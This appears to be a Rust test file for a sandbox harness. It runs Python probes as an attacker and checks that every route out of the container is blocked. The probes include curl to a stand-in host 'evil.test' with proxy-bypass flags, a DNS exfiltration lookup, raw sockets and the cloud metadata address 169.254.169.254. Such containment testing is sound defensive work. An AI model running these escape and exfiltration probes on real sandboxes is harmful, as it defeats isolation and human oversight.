//! No way out but the one that is given.

use crate::lab::{Attacker, Lab};
use crate::outside::{Service, own_address};

as_each_user! {
    row_03_and_04_a_direct_connection_has_no_route,
    row_10_no_name_is_resolved_and_no_datagram_leaves,
    row_12_no_other_protocol_leads_out,
    row_23_the_machine_itself_is_not_reachable,
}

in_containers! {
    row_03_and_04_a_direct_connection_has_no_route,
    row_10_no_name_is_resolved_and_no_datagram_leaves,
    row_12_no_other_protocol_leads_out,
    row_23_the_machine_itself_is_not_reachable,
}

async fn row_03_and_04_a_direct_connection_has_no_route(attacker: Attacker) {
    let service = Service::start();
    service.check_reachable_from_here();
    let (address, port) = (own_address(), service.port());
    let script = format!(
        r#"
for name in list(os.environ):
    if "proxy" in name.lower():
        del os.environ[name]
os.environ["NO_PROXY"] = "*"
attempt("the machine", lambda: connect("{address}", {port}))
attempt("a public host", lambda: connect("192.0.2.1", 443))
attempt("a public host by IPv6", lambda: connect("2001:db8::1", 443))
curl = "curl --silent --output /dev/null --max-time 3 --noproxy '*'"
for option in ["", "--resolve evil.test:{port}:{address}", "--connect-to ::{address}:{port}"]:
    print(f"curl {{option.split(' ')[0]}}: {{os.waitstatus_to_exitcode(os.system(f'{{curl}} {{option}} http://evil.test:{port}/')) != 0}}", flush=True)
"#
    );
    Lab::new(attacker).python(&script).await.check(&[
        ("the machine", "ENETUNREACH"),
        ("a public host", "ENETUNREACH"),
        ("a public host by IPv6", attacker.told("ENETUNREACH", "EADDRNOTAVAIL")),
        ("curl ", "True"),
        ("curl --resolve", "True"),
        ("curl --connect-to", "True"),
    ]);
    service.check_untouched();
}

async fn row_10_no_name_is_resolved_and_no_datagram_leaves(attacker: Attacker) {
    let service = Service::start();
    let (address, port) = (own_address(), service.datagram_port());
    let script = format!(
        r#"
attempt("getaddrinfo", lambda: resolve("c2VjcmV0.evil.test"))
attempt("8.8.8.8", lambda: connect("8.8.8.8", 53, socket.SOCK_DGRAM))
attempt("a resolver here", lambda: connect("{address}", {port}, socket.SOCK_DGRAM))
attempt("127.0.0.53", lambda: connect("127.0.0.53", 53))
servers = [line for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
print(f"resolv.conf: {{[it for it in servers if it != 'nameserver 127.0.0.1' + chr(10)]}}")
"#
    );
    Lab::new(attacker).python(&script).await.check(&[
        ("getaddrinfo", "no address (temporary)"),
        ("8.8.8.8", "ENETUNREACH"),
        ("a resolver here", "ENETUNREACH"),
        ("127.0.0.53", "ECONNREFUSED"),
        ("resolv.conf", "[]"),
    ]);
    service.check_untouched();
}

async fn row_12_no_other_protocol_leads_out(attacker: Attacker) {
    let script = r#"
attempt("UDP 443", lambda: connect("192.0.2.1", 443, socket.SOCK_DGRAM))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) and None)
attempt("raw IPv6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) and None)
attempt("packets", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW) and None)
def other(protocol, kind):
    with socket.socket(socket.AF_INET, kind, protocol) as it:
        it.connect(("192.0.2.1", 9))
for what, protocol, kind in [("ICMP", socket.IPPROTO_ICMP, socket.SOCK_DGRAM), ("SCTP", 132, socket.SOCK_STREAM)]:
    try:
        other(protocol, kind)
        print(f"{what}: done")
    except OSError as error:
        print(f"{what}: refused")
"#;
    Lab::new(attacker).python(script).await.check(&[
        ("UDP 443", "ENETUNREACH"),
        ("raw", "EPERM"),
        ("raw IPv6", "EPERM"),
        ("packets", "EPERM"),
        ("ICMP", "refused"),
        ("SCTP", "refused"),
    ]);
}

async fn row_23_the_machine_itself_is_not_reachable(attacker: Attacker) {
    let service = Service::start();
    let (address, port) = (own_address(), service.port());
    let script = format!(
        r#"
for host in ["127.0.0.1", "::1", "::ffff:127.0.0.1"]:
    attempt(host.replace(":", "."), lambda: connect(host, {port}))
for host in ["172.17.0.1", "169.254.169.254", "{address}", "0.0.0.0"]:
    attempt(host if host != "{address}" else "itself", lambda: connect(host, {port}))
for name in ["host.docker.internal", "metadata.google.internal"]:
    attempt(name, lambda: resolve(name))
attempt("routes", lambda: len(open("/proc/net/route").read().splitlines()) - 1)
"#
    );
    Lab::new(attacker).python(&script).await.check(&[
        ("127.0.0.1", "ECONNREFUSED"),
        ("..1", attacker.told("ECONNREFUSED", "EADDRNOTAVAIL")),
        ("..ffff.127.0.0.1", "ECONNREFUSED"),
        ("172.17.0.1", "ENETUNREACH"),
        ("169.254.169.254", "ENETUNREACH"),
        ("itself", "ENETUNREACH"),
        ("0.0.0.0", "ECONNREFUSED"),
        ("host.docker.internal", "no address (temporary)"),
        ("metadata.google.internal", "no address (temporary)"),
        ("routes", "0"),
    ]);
    service.check_untouched();
}
